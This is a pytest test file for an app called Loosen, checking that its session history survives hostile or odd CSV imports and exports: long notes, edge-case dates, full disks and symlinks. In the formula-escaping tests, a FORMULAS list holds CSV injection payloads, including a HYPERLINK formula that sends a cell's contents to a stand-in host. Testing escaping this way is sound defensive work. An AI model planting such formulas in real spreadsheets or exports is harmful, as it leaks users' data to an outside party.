"""The history's data against hostile or odd CSVs and exports: nothing lost, nothing cut.

Long notes, dates a typo away from the calendar's ends, a session whose wall clock
went back, two sessions in one second, spreadsheet formulas, an export over an
earlier one on a full disk: each ends with the user told in one line at most, and
whatever Loosen exports it imports again exactly.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import sqlite3
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from disks import fill, tmpfs
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from history_testing import FixedNow, raw_connection
from loosen import paths
from loosen.cli import main
from loosen.core.history import COLUMNS, HistoryStore, SessionRecord, Status, csvio
from loosen.core.history.csvio import read_csv, stream_csv, write_csv
from loosen.core.history.records import MAX_NOTE_CHARS
from loosen.core.userfiles import write_atomically

T0 = datetime(2026, 5, 1, 10, 0, tzinfo=UTC)


def session(n: int = 0, **changes) -> SessionRecord:
    base = SessionRecord(
        uid=f"{n:032x}",
        routine="post-run-cooldown",
        routine_name="Post-run cooldown",
        kind="cooldown",
        started_at=T0 + timedelta(days=n),
        ended_at=T0 + timedelta(days=n, minutes=10),
        status=Status.COMPLETED,
        planned_s=600.0,
        active_s=600.0,
        steps_done=8,
        tightness_before=6,
        tightness_after=3,
        note="",
    )
    return replace(base, **changes)


def exported(records) -> str:
    out = io.StringIO()
    write_csv(records, out)
    return out.getvalue()


def cli(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def write_file(tmp_path: Path, text: str, name: str = "in.csv") -> Path:
    file = tmp_path / name
    file.write_text(text, encoding="utf-8", newline="")
    return file


# -- a long note is never cut --------------------------------------------------------------


@pytest.mark.parametrize("length", [10_001, 20_000, MAX_NOTE_CHARS])
def test_a_long_note_the_rating_dialog_took_exports_and_imports_whole(capsys, tmp_path, length):
    note = ("hips tight, calves fine. " * 2000)[: length - 1] + "."
    with HistoryStore.open(paths.history_db(), now=FixedNow()) as store:
        first = store.start_session("post-run-cooldown", "Post-run cooldown", "cooldown")
        store.rate(first.uid, 3, note)
    backup = cli(capsys, "history", "--csv")[1]
    file = write_file(tmp_path, backup, "backup.csv")
    paths.history_db().unlink()
    assert cli(capsys, "history", "--import", str(file))[:2] == (
        0,
        "imported 1, skipped 0 already present, 0 bad rows\n",
    )
    with HistoryStore.open(paths.history_db()) as store:
        (back,) = store.sessions()
    assert back.note == note


def test_a_note_over_the_limit_is_refused_by_the_store_not_cut(tmp_path):
    with HistoryStore.open(tmp_path / "h.sqlite3", now=FixedNow()) as store:
        first = store.start_session("squat-and-fold", "Squat and fold", "break")
        store.rate(first.uid, 4, "kept")
        with pytest.raises(ValueError, match=f"at most {MAX_NOTE_CHARS}"):
            store.rate(first.uid, 2, "x" * (MAX_NOTE_CHARS + 1))
        assert store.get(first.uid).note == "kept"


def test_an_imported_note_over_the_limit_is_one_bad_row_by_line():
    text = exported([session(0, note="ok"), session(1, note="y" * (MAX_NOTE_CHARS + 1))])
    parsed = read_csv(io.StringIO(text))
    assert [r.note for r in parsed.records] == ["ok"]
    assert [str(e) for e in parsed.errors] == [
        f"line 3: note: is longer than {MAX_NOTE_CHARS} characters"
    ]


# -- one odd date never breaks the whole history -------------------------------------------

HEADER = "routine,started_at,status,note"


def test_a_year_typed_with_two_digits_imports_and_every_view_still_works(capsys, tmp_path):
    file = write_file(
        tmp_path,
        f"{HEADER}\nsquat-and-fold,0026-05-01T10:00:00Z,completed,typo\n"
        "squat-and-fold,2026-05-01T10:00:00Z,completed,fine\n",
    )
    assert cli(capsys, "history", "--import", str(file))[0] == 0
    code, out, err = cli(capsys, "history")
    assert (code, err) == (0, "")
    assert "0026-05-01" in out and "2026-05-01" in out
    code, out, err = cli(capsys, "history", "--csv")
    assert (code, err) == (0, "")
    assert [row[4] for row in csv.reader(io.StringIO(out))][1:] == [
        "0026-05-01T10:00:00Z",
        "2026-05-01T10:00:00Z",
    ]
    code, out, err = cli(capsys, "history", "--json")
    assert (code, err) == (0, "") and '"started_at": "0026-05-01T10:00:00Z"' in out


@pytest.mark.parametrize(
    "moment",
    ["0001-01-01T00:30:00+01:00", "9999-12-31T23:30:00-01:00", "0001-01-01T05:00:00+05:01"],
)
def test_a_date_outside_the_calendar_once_in_utc_is_one_bad_row(capsys, tmp_path, moment):
    file = write_file(
        tmp_path,
        f"{HEADER}\nsquat-and-fold,2026-05-01T10:00:00Z,completed,fine\n"
        f"squat-and-fold,{moment},completed,odd\n"
        "squat-and-fold,0001-01-01T00:00:00Z,completed,the first moment there is\n",
    )
    code, out, err = cli(capsys, "history", "--import", str(file))
    assert (code, out) == (1, "imported 2, skipped 0 already present, 1 bad rows\n")
    assert err == f'{file}: line 3: started_at: "{moment}" is outside years 1–9999 once in UTC\n'
    assert cli(capsys, "history")[0] == 0


def test_a_row_the_store_cannot_read_is_reported_and_the_rest_shown(capsys):
    with HistoryStore.open(paths.history_db(), now=FixedNow()) as store:
        store.import_records([session(0), session(1, note="second"), session(2, uid="x" * 32)])
    with raw_connection(paths.history_db()) as conn:
        # What another program, or a bug, could leave: a time no Loosen writes.
        conn.execute("UPDATE sessions SET started_at = 'yesterday' WHERE uid = ?", ("x" * 32,))
        # What an older Loosen wrote for a year before 1000: still read.
        conn.execute("UPDATE sessions SET started_at = '26-05-01T10:00:00Z' WHERE note = 'second'")
    for argv in (["history"], ["history", "--json"], ["history", "--csv"]):
        code, out, err = cli(capsys, *argv)
        assert code == 0
        assert err.count("\n") == 1 and "session 3 in " in err and "cannot be read" in err
        assert "0026-05-01" in out and "2026-05-01" in out
    with raw_connection(paths.history_db()) as conn:  # left in the file, as it was
        assert conn.execute("SELECT started_at FROM sessions WHERE id = 3").fetchone() == (
            "yesterday",
        )


# -- restore loses nothing Loosen wrote ------------------------------------------------------


def test_a_session_whose_clock_went_back_mid_way_exports_and_imports(tmp_path):
    back_in_time = session(0, ended_at=T0 - timedelta(minutes=50))
    text = exported([back_in_time])
    parsed = read_csv(io.StringIO(text))
    assert parsed.errors == [] and parsed.records == [back_in_time]
    with HistoryStore.open(tmp_path / "h.sqlite3", now=FixedNow()) as store:
        assert store.import_records(parsed.records).imported == 1
        (stored,) = store.sessions()
    assert (stored.started_at, stored.ended_at) == (back_in_time.started_at, back_in_time.ended_at)


def test_two_sessions_of_a_routine_in_one_second_are_both_restored(capsys, tmp_path):
    with HistoryStore.open(paths.history_db(), now=FixedNow()) as store:
        first = store.start_session("squat-and-fold", "Squat and fold", "break")
        second = store.start_session("squat-and-fold", "Squat and fold", "break")
        store.rate(first.uid, 2, "first")
        store.rate(second.uid, 7, "second")
    file = write_file(tmp_path, cli(capsys, "history", "--csv")[1])
    paths.history_db().unlink()
    code, out, _ = cli(capsys, "history", "--import", str(file))
    assert (code, out) == (0, "imported 2, skipped 0 already present, 0 bad rows\n")
    with HistoryStore.open(paths.history_db()) as store:
        ratings = {(r.tightness_after, r.note) for r in store.sessions()}
    assert ratings == {(2, "first"), (7, "second")}
    assert cli(capsys, "history", "--import", str(file))[1].startswith("imported 0, skipped 2")


_odd_text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\r"))
_formula_start = st.sampled_from(["=", "+", "-", "@", "\t", "'=", "''+", "'", ""])
_times = st.datetimes(datetime(1, 1, 2), datetime(9999, 12, 30), timezones=st.just(UTC))


@st.composite
def storable_sessions(draw) -> SessionRecord:
    started = draw(_times).replace(microsecond=0)
    ended = draw(st.none() | _times.map(lambda t: t.replace(microsecond=0)))
    return SessionRecord(
        uid=draw(st.from_regex(r"[A-Za-z0-9_-]{1,64}", fullmatch=True)),
        routine=draw(st.from_regex(r"[a-z0-9][a-z0-9-]{0,30}", fullmatch=True)),
        routine_name=draw(_formula_start) + draw(_odd_text.filter(str.strip)),
        kind=draw(st.sampled_from(["cooldown", "warm-up", "break", "run", "strength", "-x", ""])),
        digest=draw(st.sampled_from(["", "abc123", "-12", "=cmd"])),
        started_at=started,
        ended_at=ended,
        status=draw(st.sampled_from([s for s in Status if s is not Status.RUNNING])),
        planned_s=draw(st.none() | st.integers(0, 10**6).map(float)),
        active_s=draw(st.integers(0, 10**7).map(lambda ms: ms / 1000)),
        steps_done=draw(st.integers(0, 10**6)),
        steps_skipped=draw(st.integers(0, 10**6)),
        tightness_before=draw(st.none() | st.integers(0, 10)),
        tightness_after=draw(st.none() | st.integers(0, 10)),
        note=draw(_formula_start) + draw(_odd_text),
        breaks=draw(st.integers(0, 50)),
    )


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(storable_sessions(), min_size=1, max_size=6, unique_by=lambda r: r.uid))
def test_whatever_loosen_exports_it_imports_exactly(tmp_path_factory, records):
    folder = tmp_path_factory.mktemp("round-trip")
    with HistoryStore.open(folder / "a.sqlite3", now=FixedNow()) as store:
        store.import_records(records)
        first = exported(store.sessions(newest_first=False))
        stored = store.sessions(newest_first=False)
    parsed = read_csv(io.StringIO(first, newline=""))
    assert parsed.errors == []
    with HistoryStore.open(folder / "b.sqlite3", now=FixedNow()) as other:
        assert other.import_records(parsed.records).imported == len(records)
        again = other.sessions(newest_first=False)
        assert exported(again) == first
    forget = {"updated_at": None}
    assert [replace(r, **forget) for r in again] == [replace(r, **forget) for r in stored]


# -- formulas are never run by a spreadsheet ------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1"]


def test_a_cell_a_spreadsheet_would_run_is_exported_as_text_and_imported_as_it_was():
    records = [session(i, note=note, routine_name=note) for i, note in enumerate(FORMULAS)]
    text = exported(records)
    rows = list(csv.reader(io.StringIO(text)))[1:]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert [row[COLUMNS.index("note")] for row in rows] == ["'" + note for note in FORMULAS]
    assert read_csv(io.StringIO(text)).records == records


@pytest.mark.parametrize("note", ["'=already quoted", "''+twice", "'plain quote", "it's -fine"])
def test_a_note_that_starts_with_a_quote_keeps_it(note):
    (back,) = read_csv(io.StringIO(exported([session(0, note=note)]))).records
    assert back.note == note


def test_a_hand_made_csv_keeps_a_leading_quote_that_escapes_nothing():
    text = f"{HEADER}\nsquat-and-fold,2026-05-01T10:00:00Z,completed,'quoted\n"
    assert read_csv(io.StringIO(text)).records[0].note == "'quoted"


# -- an export never destroys the earlier one ------------------------------------------------


def test_an_export_that_fails_part_way_leaves_the_earlier_export_whole(tmp_path, monkeypatch):
    from loosen.ui.history_view import export_csv

    out = tmp_path / "history.csv"
    with HistoryStore.open(tmp_path / "h.sqlite3", now=FixedNow()) as store:
        store.import_records([session(i) for i in range(3)])
        assert export_csv(store, out).startswith("Exported 3 sessions")
        earlier = out.read_bytes()
        store.import_records([session(i) for i in range(3, 6)])

        def disk_full_after_the_header(records, stream):
            stream.write(",".join(COLUMNS) + "\n")
            stream.flush()
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

        monkeypatch.setattr(csvio, "write_csv", disk_full_after_the_header)
        message = export_csv(store, out)
    assert message == f"Could not export to {out}: No space left on device"
    assert out.read_bytes() == earlier
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]


def test_an_export_on_a_really_full_disk_leaves_the_earlier_export_whole(tmp_path):
    from loosen.ui.history_view import export_csv

    with tmpfs(tmp_path / "disk", size_kb=256) as disk:
        if disk is None:
            pytest.skip("mounting a tmpfs is not allowed here")
        out = disk / "history.csv"
        with HistoryStore.open(tmp_path / "h.sqlite3", now=FixedNow()) as store:
            store.import_records([session(i) for i in range(5)])
            assert export_csv(store, out).startswith("Exported")
            earlier = out.read_bytes()
            store.import_records([session(i, note="n" * 5000) for i in range(5, 200)])
            fill(disk)
            message = export_csv(store, out)
        assert message == f"Could not export to {out}: No space left on device"
        assert out.read_bytes() == earlier
        assert not [p for p in disk.iterdir() if p.name.endswith(".partial")]


def test_an_export_through_a_link_replaces_the_file_and_keeps_the_link(tmp_path):
    real = tmp_path / "real.csv"
    real.write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    with write_atomically(link, newline="") as handle:
        handle.write("new\n")
    assert link.is_symlink() and real.read_text(encoding="utf-8") == "new\n"


@pytest.mark.parametrize("device", ["/dev/null", "/dev/full"])
def test_an_export_onto_a_device_is_refused_and_the_device_kept(tmp_path, device):
    from loosen.ui.history_view import export_csv

    if not Path(device).exists():
        pytest.skip(f"no {device} here")
    before = Path(device).stat()
    with HistoryStore.open(tmp_path / "h.sqlite3", now=FixedNow()) as store:
        message = export_csv(store, Path(device))
    assert message == f"Could not export to {device}: not a regular file"
    after = Path(device).stat()
    assert (after.st_mode, after.st_rdev, after.st_ino) == (
        before.st_mode,
        before.st_rdev,
        before.st_ino,
    )


# -- scale: the import streams ---------------------------------------------------------------


def test_the_import_reads_one_row_at_a_time():
    consumed: list[str] = []

    def lines():
        for line in exported([session(i) for i in range(50)]).splitlines(keepends=True):
            consumed.append(line)
            yield line
        raise AssertionError("read to the end before the first session was wanted")

    rows = stream_csv(lines())
    first = next(rows)
    assert isinstance(first, SessionRecord) and first.uid == session(0).uid
    assert len(consumed) <= 3  # the header, the row, perhaps one ahead


def test_an_import_that_fails_mid_file_adds_nothing(capsys, tmp_path):
    good = exported([session(i) for i in range(500)])  # more than one read's worth
    file = tmp_path / "in.csv"
    file.write_bytes(good.encode() + b"post-run-cooldown,\xff\xfe\n")
    code, out, err = cli(capsys, "history", "--import", str(file))
    assert (code, out) == (1, "")
    assert err == (
        f"loosen: {file}: is not UTF-8 text; export it again as UTF-8 CSV (nothing was imported)\n"
    )
    with sqlite3.connect(paths.history_db()) as conn:
        assert conn.execute("SELECT count(*) FROM sessions").fetchone() == (0,)
